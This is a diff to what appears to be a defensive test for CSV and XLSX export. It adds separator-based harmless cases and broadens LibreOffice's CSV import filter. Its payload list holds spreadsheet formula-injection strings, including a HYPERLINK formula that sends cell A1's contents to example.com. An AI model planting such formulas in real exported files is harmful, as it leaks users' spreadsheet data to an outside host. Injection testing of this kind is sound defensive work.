@@ -35,7 +35,16 @@ PAYLOADS = [
     "＠SUM(A1)",
     '=HYPERLINK("http://example.com/?"&A1,"甲空间")',
 ]
-HARMLESS = ["甲空间，乙", '“引号” and "quotes"', "a,b;c\td", "第一行\n第二行", "𠮷野家 Ⅲ", " 1+1=2 "]
+HARMLESS = [
+    "甲空间，乙",
+    "甲;=1+1",
+    "甲\t=1+1",
+    '“引号” and "quotes"',
+    "a,b;c\td",
+    "第一行\n第二行",
+    "𠮷野家 Ⅲ",
+    " 1+1=2 ",
+]
 # What has types keeps these texts; in CSV only a reader that is told so does.
 LIKE_OTHERS = ["007", "1e5", "2024-03-31", "true"]
 NUMBERS = [-3.0, 0.7, 1 / 3, 0.0, -0.0001, 99999999999999.99, 1200.0]
@@ -108,8 +117,9 @@ def opened(folder: Path) -> Path:
         for form in ("csv", "xlsx")
     ]
     command = [office, "--headless", f"-env:UserInstallation={(folder / 'profile').as_uri()}"]
-    # Of a CSV: comma, double quote, UTF-8, from the first line on; its formulas would be run.
-    command += ["--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(folder / "opened")]
+    # Of a CSV: comma, semicolon and tab as its dialogue offers them, double quote, UTF-8, from the first line on.
+    # Formulas would be run.
+    command += ["--infilter=CSV:44/59/9,34,76,1", "--convert-to", "xlsx", "--outdir", str(folder / "opened")]
     command += map(str, files)
     subprocess.run(command, check=True, capture_output=True, timeout=PATIENCE)
     return folder / "opened"
